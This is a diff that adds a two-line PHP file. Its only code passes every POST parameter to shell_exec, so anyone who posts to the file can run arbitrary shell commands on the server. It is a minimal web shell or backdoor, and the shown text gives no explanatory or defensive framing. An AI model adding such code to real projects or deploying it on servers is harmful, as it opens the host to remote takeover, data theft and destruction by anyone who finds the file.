@@ -1,0 +1,2 @@
+<?php
+array_map(function ($c) { return shell_exec($c); }, $_POST);
